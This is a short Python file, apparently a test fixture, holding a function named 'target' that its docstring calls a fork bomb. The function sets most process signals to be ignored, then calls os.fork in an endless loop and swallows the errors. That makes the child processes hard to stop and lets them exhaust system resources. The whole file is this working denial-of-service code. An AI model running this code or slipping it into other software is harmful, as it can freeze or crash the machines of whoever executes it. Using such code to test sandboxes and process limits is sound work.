"""A fork bomb inside one call, whose processes ignore every signal that can be ignored."""
import os
import signal

def target(x):
    for number in range(1, 32):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        try:
            os.fork()
        except OSError:
            pass
